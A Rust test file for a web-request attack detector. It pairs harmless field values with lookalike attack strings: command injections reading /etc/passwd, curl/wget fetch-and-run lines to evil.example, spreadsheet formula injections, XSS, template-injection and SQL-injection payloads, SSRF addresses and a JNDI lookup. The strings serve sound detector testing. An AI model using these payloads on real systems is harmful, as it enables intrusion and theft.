//! Honest values beside the attacks that look like them, kind by kind, each in the field and at the
//! path that it came to.

mod everyday;

use self::everyday::EVERYDAY;
use super::*;
use crate::places::Format;

/// One kind, in one place.
#[derive(Clone, Copy)]
struct Pair {
    part: Part,
    name: &'static str,
    /// The path that it is sent to.
    path: &'static str,
    /// What passes.
    honest: &'static [&'static str],
    /// What is refused.
    attacks: &'static [&'static str],
}

/// In a member of a JSON body.
const fn body(name: &'static str, honest: &'static [&'static str], attacks: &'static [&'static str]) -> Pair {
    Pair {
        part: Part::Body,
        name,
        path: "/api/x",
        honest,
        attacks,
    }
}

/// The same at a path.
const fn at(path: &'static str, pair: Pair) -> Pair {
    Pair { path, ..pair }
}

/// The same of a query.
const fn query(name: &'static str, honest: &'static [&'static str], attacks: &'static [&'static str]) -> Pair {
    Pair {
        part: Part::Query,
        ..body(name, honest, attacks)
    }
}

#[rustfmt::skip]
const PAIRS: &[Pair] = &[
    // a file in Base64 within a URL: JPEG, MP3, UTF-16, with parameters, within markup, with the
    // slashes of JSON
    body("avatar", &[
        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAMCAgICAgMC", "data:image/jpg;base64,/9j/2wCEAAkGBxMTEhUTEhMVFhUXGBgXGBcXFxcYGBgYFxgX",
        "data:audio/mpeg;base64,//uQxAAAAAAAAAAAAAAAAAAAAAAASW5mbwAAAA8AAAAC", "data:text/csv;charset=utf-16le;base64,//5OAGEAbQBlADsASQBkAA==",
        "data:text/plain;charset=\"utf-8\";base64,/v8AYQ==", "data:;base64,//4=", "data:image\\/jpeg;base64,\\/9j\\/4AAQSkZJRgABAQ",
        "data:image/jpeg;name=photo.jpg;base64,/9j/4AAQSkZJRgABAQ==", "a data:image/jpeg;base64,/9j/4A== and data:image/jpeg;base64,/9j/2w==",
    ], &[
        "x;base64,/etc/passwd", ";base64 /etc/hosts", "data:image/jpeg;base64,/9j/aa==;cat /etc/passwd", "data:image/jpeg;x=$(id);base64,/9j/4A==",
        "data:image/jpeg;base64,/9j/4A==|cat /etc/passwd", "x;cat /etc/passwd;data:image/jpeg;base64,/9j/4A==", "data:;ls -la;base64,/9j/4A==",
        "data:image/jpeg;cat /etc/passwd;base64,/9j/4A==", "data:image/jpeg;base64,/9j/4A==`id`", "data:image/jpeg;base64,/9j/$(cat /etc/passwd)",
        "data:image/jpeg;base64,/9j/4A==\n/bin/cat /etc/passwd",
    ]),
    query("photo", &["data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD"], &["data:image/jpeg;base64,/9j/4AAQ;wget http://evil.example/x"]),
    body("html", &[
        "<p><img src=\"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ==\" alt=\"x\"></p><p><img src='data:image/jpeg;base64,/9j/2wCEAAkGBw=='></p>",
    ], &[
        "<p><img src=\"data:image/jpeg;base64,/9j/4AAQ\" onerror=alert(1)></p>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    ]),
    body("messages[0].content[0].image_url.url", &["data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ=="], &["data:image/jpeg;base64,/9j/4AAQ;curl http://evil.example/"]),
    // files within URLs: documents that are run or parsed, and pictures
    query("page", &["data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "data:text/csv;base64,YTtiCjE7Mgo="], &[
        "data:;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHgvPg==", "data:;base64,PD89YCRfR0VUWzBdYDs=", "data:;base64,YTw/cGhwIHN5c3RlbSgnaWQnKTs=", "data:text/x-php;base64,CTw/cGhwIHBocGluZm8oKTs=",
        "data:application/xml;base64,PHg6eC8+", "data:image/png;base64,iVBORw0KGgo8P3BocCBzeXN0ZW0oMSk7", "data:text/html;base64,PGI+eDwvYj4=", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
        "DATA:;BASE64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHgvPg==", "data:text/plain;charset=x;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgU1lTVEVNICJhIj4=",
    ]),
    query("avatar", &["data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="], &["data:;base64,YTw/cGhwIHN5c3RlbSgnaWQnKTs="]),
    body("file", &[
        "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHgvPg==", "data:;base64,//4=", "data:application/pdf;base64,JVBERi0xLjQKJcOkw7zDtsOfCg==",
    ], &[
        "data:;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+PHI+Jng7PC9yPg==",
        "data:application/octet-stream;base64,CTw/cGhwIHBocGluZm8oKTs=", "data:image/png;base64,iVBORw0KGgo8P3BocCBzeXN0ZW0oMSk7",
    ]),
    // files of the system, whatever the field is called
    body("private_key", &["a/b+c/d==", "/etc/kim", "-----BEGIN PRIVATE KEY-----"], &[
        "/etc/passwd", "/root/.ssh/id_rsa", "/etc/ssl/private/server.key", "/run/secrets/kubernetes.io/serviceaccount/token", "/etc/fstab", "/proc/self/maps", "../../../home/app/config", " /etc/passwd",
    ]),
    body("page", &["<a href=\"../../../x/y.html\">x</a>", "see ../../x for the rest"], &["../../../../home/app/config", "../../../x"]),
    at("/admin/settings", body("path", &["/var/log/nginx", "/var/lib/mysql", "/var/log/nginx/error.log"], &["/var/www/html/wp-config.php", "/var/log/auth.log", "/var/lib/mysql/mysql/user.MYD"])),
    body("mount", &["/var/lib/docker"], &["/var/www/html/wp-config.php"]),
    body("file", &[".env.example", "docker/.env.dist"], &[".env?.example", ".env#.example", ".htpasswd;.example"]),
    // time zones beside files
    query("tz", &[
        "Etc/UTC", "Etc/GMT+5", "Etc/GMT-14", "etc/utc", "Etc/Greenwich", "Etc/UTC,Europe/Berlin", "\"Etc/UTC\"", "America/Argentina/Ushuaia,Etc/GMT",
    ], &[
        "etc/passwd", "Etc/UTC/../passwd", "/etc/passwd", "Etc/UTC,/etc/passwd", "etc/GMT+5/../shadow", "Etc/UTC,var/log/syslog", "etc/hosts",
    ]),
    body("timeZone", &["Etc/UTC", "Etc/Unknown"], &["etc/shadow", "/etc/passwd"]),
    // SVG in Base64: a drawing, one with a prologue, within markup and Markdown; and one with a
    // handler, with a script, or opened as a page
    body("signature", &[
        "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBMNSA1Ii8+PC9zdmc+",
        "data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
    ], &[
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+",
        "data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHN2ZyBvbmxvYWQ9ImEoKSIvPg==", "data:image/svg+xml;base64,PHN2Zz48Zm9yZWlnbk9iamVjdC8+PC9zdmc+",
        "data:text/html;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=", "data:image/svg+xml;base64,PHN2Zz4 onload=alert(1)",
    ]),
    body("html", &[
        "<p><img alt=\"x\" src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\"></p>",
    ], &[
        "<a href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">x</a>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=#x\"/></svg>",
        "<object data=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\"></object>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\" onload=alert(1)>",
    ]),
    // tables whose columns are called as commands are
    body("csv", &[
        "date;time;host\n2024-05-12;10:15;web1\n", "pfad;find\n/a;/b\n", "cat;id;ls\n1;2;3\n", "Datum;Uhrzeit;Host\r\n12.05.2024;10:15;\r\n", "x;y;curl\n1;2;3.5",
    ], &[
        "x;id;ls\n1;2;cat /etc/passwd", "1.1.1.1;id\nx;y", "x;curl evil.example\ny;z", "x;sh -c id\ny;z", "x;ls;y\n$(id);2;3", "a;b\nx;ping 10.0.0.1", "x;id", "a;b\nx;sh x.sh", "a;b\nx;cat config.php", "a;b\nx;php -r 1",
        "a;b;cat /etc/passwd\n1;2;3",
    ]),
    body("data", &["date;time;host\n2024-05-12;10:15;web1\n"], &["x;whoami\ny;z", "a;b\nx;cat config.php"]),
    body("name", &["date;time;sort"], &["x;ls\ny;z", "x;curl\n1;2"]),
    // formulas that start programs or send what other cells hold
    body("name", &["=SUM(A1:A5)", "=IF(A1>5,1,2)", "=HYPERLINK(\"https://example.com\",\"click\")", "-5 | cmd", "+49 30 123"], &[
        "=cmd|'/c calc'!A1", "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!D2", "@SUM(1+1)*cmd|'/c calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example/\"&A1)", "a;b\n=cmd|'/c calc'!A1;2",
    ]),
    body("formula", &["=HYPERLINK(\"https://example.com/\"&A1,\"click\")", "=VLOOKUP(A1;B:C;2;0)"], &["=cmd|'/c calc'!A1"]),
    // stages of queries, and files that a shell would read behind a pipe
    body("filter", &["index=web | head 10 | sort -count | top limit=5 uri", "index=web | eval x=a/b | stats count by x"], &[
        "x | head -1 /etc/passwd", "x || mv /etc/passwd /tmp", "x | date -f /etc/passwd", "x | make -f /tmp/x",
    ]),
    at("/api/workflows/7", body("value", &["{{ x }} `a`"], &["{{x}};curl http://evil.example/|sh", "{{ x }}`id`", "{{ x }}$(id)", "{{ x }};cat /etc/passwd"])),
    at("/admin/settings", body("command", &["/usr/bin/php /var/www/shop/cron.php"], &["/usr/bin/perl /var/www/uploads/shell.pl", "/usr/bin/php /home/x/.ssh/id_rsa", "/usr/bin/php /var/www/a.php;curl http://evil.example/|sh"])),
    // words around a separator, and tools that act on any word
    query("name", &["Curl & wget for beginners", "Rsync & tar explained", "time;vmstat;iostat"], &[
        "abc; killall node the", "abc & userdel kim for", "abc & sudo reboot the", "x;poweroff;y", "x;lsblk;y",
    ]),
    // definitions of documents where anyone may put one
    body("doc", &["<!DOCTYPE x SYSTEM \"http://hibernate.sourceforge.net/hibernate-mapping-3.0.dtd\"><x/>", "<!DOCTYPE x SYSTEM \"http://purl.org/dc/x.dtd\"><x/>"], &[
        "<!DOCTYPE x SYSTEM \"http://evil.sourceforge.net/x.dtd\"><x/>", "<!DOCTYPE x SYSTEM \"https://drive.google.com/uc?id=x\"><x/>", "<!DOCTYPE x SYSTEM \"http://purl.org/evil/x.dtd\"><x/>",
    ]),
    body("source", &["../../../src/app.ts", "import a from '../../../../../../../b'"], &["../../../../../../../home/app/config"]),
    // what people read quotes code
    body("message", &["foo the bar `cat /etc/hosts` there"], &["`cat /etc/passwd`"]),
    body("host", &["host-1"], &["foo the bar `curl http://evil.example/|sh`"]),
    query("ip", &["10.0.0.1"], &[
        "1.1.1.1;cat /etc/passwd # a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a",
        "1.1.1.1\n\n\n;cat /etc/passwd", "1.1.1.1;cat /etc/passwd\n\n\n\n", "1.1.1.1\nx y\nz a\n;cat /etc/passwd",
        "1.1.1.1;wget http://evil.example/x -O /tmp/x;sh /tmp/x # the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox jumps over the lazy dog and the quick brown fox",
    ]),
    query("name", &["Kim"], &["{{7*7}} a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a", "{{config}}\n\n\n\na"]),
    query("file", &["a.pdf"], &["/etc/passwd\n\n\n", "/etc/passwd\r\n"]),
    body("target", &["host-1"], &["1.1.1.1\nthe quick\nbrown fox\n;cat /etc/passwd"]),
    // markup that rich text quotes
    body("content", &[
        "<p>Type <code>&lt;script&gt;</code> to start</p>", "<p>&lt;b&gt; is bold, &lt;img src=\"x\" onerror=\"y\"&gt; is bad</p>",
        "<pre class=\"ql-syntax\">&lt;script src=\"a.js\"&gt;&lt;/script&gt;\n</pre>", "<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>",
        "<p>Use <code>&lt;?php echo 1; ?&gt;</code></p>", "<p>&amp;lt;script&amp;gt; is how it is written</p>", "<p>Call <code>alert(1)</code> in it</p>",
    ], &[
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<p title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">a</p>", "<p>&lt;b&gt;</p><script>alert(1)</script>",
        "<p>&lt;b&gt; is bold</p><img src=x onerror=alert(1)>", "<img title=\"> &lt;b&gt;\" src=x onerror=alert(1)>", "<p>&lt;b&gt;</p><?php system('id') ?>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "<svg><script>alert&lpar;1&rpar;&lt;</script></svg>",
        "<p onclick=\"alert(1)\">&lt;b&gt;</p>",
    ]),
    body("name", &["<b>Kim</b>"], &["<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>"]),
    // what rich text shows of the site's own, and handlers that do nothing
    body("content", &[
        "<iframe src=\"/widgets/map\"></iframe>", "<object data=\"/a.pdf\"></object>", "<embed src=\"/files/a.pdf\">", "<svg><use xlink:href=\"/sprite.svg#x\"/></svg>",
        "<base target=\"_blank\"><p>x</p>", "<a href=\"#\" onclick=\"return false\">x</a>", "<a href=\"#\" onclick=\"\">x</a>",
        "<img src=\"/a.png\" onerror=\"this.style.display='none'\">", "<iframe src=\"https://www.arte.tv/embeds/de/1\"></iframe>",
    ], &[
        "<iframe src=\"//evil.example/\"></iframe>", "<iframe src=\"/\\evil.example/\"></iframe>", "<object data=\"https://evil.example/a.swf\"></object>",
        "<svg><use href=\"//evil.example/a.svg#x\"/></svg>", "<base href=\"//evil.example/\">", "<base target=_blank href=//evil.example/>",
        "<a onclick=\"return false\" onmouseover=\"alert(1)\">x</a>", "<a onclick=\"return false;alert(1)\">x</a>", "<a onclick=\"return false\"onfocus=\"alert(1)\">x</a>",
        "<img onerror='' onload=alert(1)>", "<iframe src=\"/redirect?url=//evil.example\"></iframe>", "<object data=\"https://www.youtube.com/x\" codebase=//evil.example></object>",
        "<embed src=\"https://www.youtube.com/x\" code=\"//evil.example/x.swf\">", "<iframe src=\"/a\" srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=\"/../a\\t//evil.example\"></iframe>",
    ]),
    body("svg", &["<svg viewBox='0 0 1 1'><use href='#a'/></svg>"], &["<svg onload=alert(1)>", "<svg><use href='//evil.example/a.svg#x'/></svg>"]),
    // templates of automations
    at("/api/workflows/7", body("nodes.parameters.value", &[
        "{{#each items}}{{this.name}}{{/each}}", "{{ order.total | money }} {{ 'now' | date: '%Y' }}", "{{ states('sensor.temperature') | float(0) * 1.8 + 32 }}",
        "={{ $node[\"HTTP Request\"].json[\"id\"] }}", "{{ url_for('static', filename='a.css') }}", "{{formatDate(now; \"YYYY-MM-DD\")}}",
    ], &[
        "{{ ''.__class__.__mro__ }}", "{{ $node[\"a\"].constructor.constructor(\"x\")() }}", "{{ config }}", "{{ request.application }}", "{{7*7}}",
        "{{ $node[\"a\"].json }}{{ process.env }}", "{{ lipsum.__globals__.os.popen('id').read() }}",
    ])),
    body("subject", &["{{ _self.subject }}", "{{ $node[\"HTTP Request\"].json.id }}"], &["{{ _self.env.registerUndefinedFilterCallback('exec') }}", "{{ _self }}"]),
    body("nodes.parameters.value", &["{{ name }}"], &["{{ states('x') | float(0) }}"]),
    // SQL where it is written
    at("/api/query", body("sql", &[
        "SELECT * FROM users WHERE 1=1 AND name = 'kim' -- only kim", "INSERT INTO t (a,b) VALUES (1,'x'); SELECT LAST_INSERT_ID();",
        "DECLARE @d date = GETDATE(); SELECT TOP 10 * FROM orders WHERE day > @d",
    ], &[
        "1; DROP TABLE users", "x' UNION SELECT password FROM users -- ", "SELECT 1 FROM a; EXEC xp_cmdshell 'dir'", "SELECT 1 FROM a WHERE b = 'c' OR SLEEP(5)",
    ])),
    at("/api/users", body("name", &["Kim"], &["SELECT * FROM users WHERE 1=1 AND name = 'kim' -- only kim", "SELECT 1 FROM a; DROP TABLE b"])),
    at("/api/query", body("title", &["orders"], &["SELECT 1 UNION SELECT password FROM users", "select' union select password from users where 'a'='a"])),
    at("/api/query", body("sql", &[
        "select id \"ID\", count(*) \"n\" from a group by 1", "SELECT a.`b` c FROM `x`.`y` WHERE d LIKE 'e%' AND f IN ('g','h')", "select concat(a, ' and ', b) from t where c = 'it''s'",
        "select * from t where a = N'x' or b ~ E'\\d'", "SET search_path TO 'x'; SELECT 1 FROM a", "show tables", "describe orders",
    ], &[
        "select' union select password from users where 'a'='a", "set' or '1'='1", "begin; '; drop table users --", "select 1; copy x from program 'id'", "describe it' or '1'='1",
        "use' or '1'='1' or '", "'; copy x from program 'id'; --", "COPY (select 1) TO PROGRAM 'curl http://evil.example'",
    ])),
    body("filter", &[
        "select id from a where data->>'x' = 'y'", "SELECT COUNT(*) FROM a WHERE b = 1 AND c BETWEEN '2024-01-01' AND '2024-02-01'", "with a as (select id from b) select * from a where x = 'y'",
        "SELECT a FROM b WHERE c LIKE '%it''s%' AND d = '/a?b=1' AND 1=1", "SELECT x FROM y WHERE z = 'and so on (etc)' AND 1=1 OR a = 'is null'",
    ], &[
        "select a from b where' or ''='", "select a from b where c='||(select password from users)||'", "select a from b where c=') or (''='",
        "describe it ' or '1'='1", "show me from 'x' or 'a'='a'", "describe it ' union select password, 2 from users where 'x'='x"]),
    body("comment", &[
        "I think 1=1 is always true -- why do you write WHERE 1=1?", "What does SELECT a FROM b WHERE 1=1 do in MySQL?", "Please copy it from program 7 to the new list",
    ], &["1 or 1=1 -- this is the", "1 or 1=1 # is the you", "1) or (1=1) -- and the is", "1 or 1=1; this is the", "1 or 1=1 -- this is -- the", "x'; copy a from program 'id'; --"]),
    // addresses that are not fetched
    query("state_url", &["http://localhost:3000/dashboard"], &["http://127.0.0.1:6379/", "http://169.254.169.254/"]),
    query("dest", &["https://www.example.com/"], &["http://localhost:3000/dashboard"]),
    body("message", &["eval() in PHP 8", "alert('hi') does nothing", "Difference between union all and union select"], &[
        "alert(1) in window", "alert('hi') in a in b", "eval($_POST[1]) in PHP 8", "1 union all select null", "' union select name from users --", "system('ls') <b>x</b>",
    ]),
    query("q", &["eval() in PHP 8", "alert('hi') does nothing", "how to use union select"], &["alert(1)//does nothing", "1 union select null", "alert(1) in window"]),
    body("content", &["<p>It <code>alert('x')</code>s</p>"], &["<p><code>system('id')</code></p>", "<p><code>x;cat /etc/passwd</code></p>"]),
    body("home", &["http://localhost:8080"], &["http://127.0.0.1:2375/", "http://169.254.169.254/"]),
    body("endpoint", &["wss://push.example.com/ws", "ftp://files.example.com/a"], &[
        "http://localhost:8080/ws", "gopher://localhost:8080/", "ws://127.0.0.1", "ws://localhost:8080/ws", "wss://169.254.169.254", "ws://127.0.0.1:6379/", "ws://[::1]/", "ws://0x7f000001/", "ws://2130706433/",
        "redis://127.0.0.1:6379", "memcached://127.0.0.1:11211", "mqtt://localhost", "ftp://127.0.0.1/", "dict://10.0.0.1:11211/", "tftp://10.0.0.1/x", "jar:ws://127.0.0.1!/", "jar:http://127.0.0.1!/x",
        "http+unix://%2Fvar%2Frun%2Fdocker.sock/info", "feed:http://127.0.0.1/", "view-source:http://127.0.0.1/", "ldap://127.0.0.1",
    ]),
    body("redis_url", &["redis://localhost:6379/0", "rediss://kim:x@127.0.0.1:6379"], &["redis://169.254.169.254/", "http://localhost:6379/", "redis://127.1:6379"]),
    body("db.dsn", &["postgres://kim:x@localhost:5432/shop", "mysql://127.0.0.1/shop"], &["ws://localhost:5432/", "postgres://0x7f000001/shop"]),
    at("/admin/settings", body("url", &["mongodb://localhost:27017/shop", "ldap://localhost:389/dc=example,dc=com"], &["ws://localhost/", "ldap://evil.example:1389/Exploit"])),
    body("ldap_url", &["ldap://127.0.0.1:389", "ldap://localhost", "ldap://ldap.example.com/ou=people,dc=example,dc=com"], &["ldap://127.0.0.1:6379", "ldap://169.254.169.254/", "ldap://evil.example/x"]),
    at("/admin/settings", body("header_html", &["<script async src=https://www.googletagmanager.com/gtag/js?id=G-1></script>"], &["${jndi:ldap://evil.example/a}"])),
    at("/api/pages", body("header_html", &["<b>x</b>"], &["<script src=//evil.example></script>"])),
    // a quotation has two ends, and leaves nothing that the value is put into
    body("comment", &[
        "<p>Type <code>alert('x')</code> here</p>", "<p>don't use &lt;a href=\"x\" onclick=\"f('y')\"&gt; there</p>", "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
        "<p>It is <b>not</b> &lt;svg onload=\"x\"&gt;</p>",
    ], &[
        "<code>\" onfocus=alert(1) autofocus x=\"", "<code>\" onfocus=alert(1) autofocus x=\"</code>", "<p>Type <code>'/onfocus=alert(1) autofocus x='</code></p>", "<code>'-alert(1)-'</code>",
        "<pre>';alert(1)//", "<tt>javascript:alert(1)", "<code></code><code>\" onfocus=alert(1) x=\"", "<code>`+alert(1)+`</code>", "<b>&lt;\" onfocus=alert(1) autofocus x=\"",
        "<b>&lt;script&gt;alert(1)&lt;/script&gt;", "<b>x</b>&lt;svg onload=alert(1)&gt;", "<b>&lt;</b>javascript:alert(1)", "<b>&lt; alert(1)</b>", "<b>&lt;b&#39;-alert(1)-&#39;&gt;</b>",
        "<b>&lt;eval($_POST[1])</b>", "<b>&lt;O:8:\"stdClass\":1:{s:1:\"a\";i:1;}</b>", "<i>alert(1)</i><b>&lt;b&gt;</b>", "<b>&lt;!--#exec cmd=\"ls\" -->",
    ]),
    body("title", &["<b>Kim</b>", "What does `alert(1)` do?"], &["<b>&lt;a x=\"\" onfocus=alert(1) autofocus y=\"\"&gt;</b>", "<code>alert(1)</code>"]),
    // sentences about scripts, of which none is made, and scripts of words
    body("message", &["Why does alert(document.cookie) show this?", "I can't get document.write('x') to work", "this is the document.cookie you want"], &[
        "alert(1)-/this is the/", "if (this) alert(1)", "with (this) alert(1)", "this && alert(1) && this", "this\nthis\nalert(1)", "alert(1), 'you are the'",
        "void this, new it, alert(1)", "a, i, system('id')",
    ]),
    // markup of elsewhere and that leads elsewhere, however it is written
    body("html", &[
        "<style>@import url('https://fonts.googleapis.com/css2?family=Inter');</style><p>x</p>", "<a href=\"https://a.example\" ping=\"/url?sa=t&url=https://a.example\">x</a>",
        "<meta content=\"text/html; charset=utf-8\" http-equiv=\"Content-Type\"><p>x</p>", "<video poster=\"/a.jpg\" controls></video>",
    ], &[
        "<style>@import '//evil.example/x.css'</style>", "<style>@import url(https://evil.example/fonts.css);</style>", "<a ping=//evil.example href=#>x</a>",
        "<meta/http-equiv=refresh content=0;url=//evil.example>", "<meta content=\"0;url=//evil.example\" http-equiv=refresh>", "<base/href=//evil.example>", "<video poster=javascript:alert(1)>",
        "<style>a{background:url(javascript:alert(1))}</style>", "<svg\u{c}onload=x()>", "<x onpointerenter=x()>", "<a href=javas&#99;ript:alert(1)>x</a>", "<form action=javascript:alert(1)>",
        "<button formaction=javascript:alert(1)>x", "<iframe srcdoc=x>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<table background=javascript:alert(1)>",
    ]),
    body("css", &["@import url(\"https://cdn.example.org/a.css\"); body { color: red }", "@import 'variables';"], &["body{background:url(javascript:alert(1))}"]),
    body("theme", &["dark"], &["@import '//evil.example/x.css';", "red}@import url(https://evil.example/)"]),
    // expressions of servers' languages
    query("expr", &["price * 2", "process the environment"], &[
        "process.env", "process.env.SECRET", "JSON.stringify(process.env)", "require('child_process')", "%{#a=1}", "%{(#a=1)}", "${#a=1}", "%{(#nike='multipart/form-data')}", "%{#_memberAccess['x']}",
    ]),
    query("q", &["process.env.NODE_ENV"], &["this.constructor.constructor('return process')()"]),
    body("script", &["console.log(process.env.HOME)", "echo ${#list[@]}"], &["%{#a=1}"]),
    // what takes one line is no document, however much is sent, and an attribute is left at the
    // beginning of one
    body("title", &["Kim"], &["<iframe src=//evil.example>\naa\nbb\ncc\ndd", "<?php system($_GET[1]);?>\naa\nbb\ncc\ndd", "\" onfocus=x() autofocus x=\"\naa\nbb\ncc\ndd"]),
    body("letter", &["<p style=\"x\" class=\"y\">Dear \"Kim\",</p>\n<p>aa</p>\nbb\ncc\ndd", "onclick=\"x\" is it\naa\nbb\ncc\ndd"], &["\" onfocus=x() autofocus x=\"\naa\nbb\ncc\ndd"]),
    // passwords that look like a filter or a path
    body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)", "n)(I<Yqk", "Xk$0<<<9a", "x1';", "a'-'Kx9!pQ7z", "$inK4l:x", "p;ls9>k/x"], &[
        "*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow", "()(uid=*))(|(uid=*", "a(b)*)(uid=*))(|(uid=*", "admin)(&)", "*)(&", "x)(|(a=*", "{\"$ne\":null}", "{$gt:''}",
        "'or'1", "'||'1", "'<(ascii(user()))#", "x;id>/var/www/a.txt", "x;/bin/c?t${HOME}", "x;$SHELL<<<id", "{{7*7}}", "<%=7*7%>", "../../../x",
    ]),
];

fn found(pair: &Pair, text: &str) -> Option<(&'static str, &'static str)> {
    let field = Field {
        place: Place {
            part: pair.part,
            name: pair.name,
        },
        role: Role::Value,
        value: text.as_bytes(),
        spelling: Spelling::Literal,
    };
    let is_body = pair.part == Part::Body;
    let options = Options {
        context: Context {
            path: pair.path,
            content_type: if is_body { "application/json" } else { "" },
            format: is_body.then_some(Format::Json),
        },
        ..Options::STANDARD
    };
    let caught = DETECTORS.look_for(&field, &options)?;
    (caught.finding.score >= CERTAIN).then_some((caught.family.name(), caught.finding.rule))
}

/// Text that pads: forty times a word of its own, in one line and in lines.
fn padding(between: &str) -> String {
    let words = [
        "summer", "of", "the", "year", "when", "all", "windows", "stood", "open", "again",
    ];
    words
        .iter()
        .cycle()
        .take(60)
        .map(|word| format!("{between}{word}"))
        .collect()
}

#[test]
fn text_around_an_attack_hides_nothing_where_no_document_is_expected() {
    let (words, lines) = (padding(" "), padding("\n"));
    let mut missed = Vec::new();
    for attack in [
        "x;cat /etc/passwd",
        "1;drop table x--",
        "{{7*7}}",
        "$(wget evil.example/x)",
        "1' or '1'='1",
    ] {
        let mut padded = vec![
            format!("{attack}{words}"),
            format!("{attack}{lines}"),
            format!("{attack} #{words}"),
        ];
        // a statement behind a separator is told behind one word
        if !attack.contains("drop") {
            padded.push(format!("{words} {attack}"));
        }
        for text in &padded {
            for pair in [body("value", &[], &[]), query("value", &[], &[]), query("q", &[], &[])] {
                if found(&pair, text).is_none() {
                    missed.push((pair.part, pair.name, text.clone()));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    // as in a document's own field, where such texts are at home
    for (name, attack) in [
        ("message", "x;cat /etc/passwd"),
        ("code", "$(wget evil.example/x)"),
        ("html", "{{ x | join(', ') }}"),
    ] {
        for padding in [&words, &lines] {
            assert_eq!(
                found(&body(name, &[], &[]), &format!("{attack}{padding}")),
                None,
                "{name}"
            );
        }
    }
    let letter = format!("Dear Kim; as we said: it's \"open\" -- and fine.{words}\n{lines}\n(Bo & I; see `a.txt`)");
    for pair in [body("value", &[], &[]), body("letter", &[], &[]), query("q", &[], &[])] {
        assert_eq!(found(&pair, &letter), None, "{}", pair.name);
    }
}

#[test]
fn honest_values_pass_where_attacks_like_them_do_not() {
    let mut wrong = Vec::new();
    for pair in PAIRS.iter().chain(EVERYDAY) {
        let refused = pair
            .honest
            .iter()
            .filter_map(|text| Some((text, Some(found(pair, text)?))));
        let passed = pair.attacks.iter().filter(|text| found(pair, text).is_none());
        wrong.extend(
            refused
                .chain(passed.map(|text| (text, None)))
                .map(|wrong| (pair.name, wrong)),
        );
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
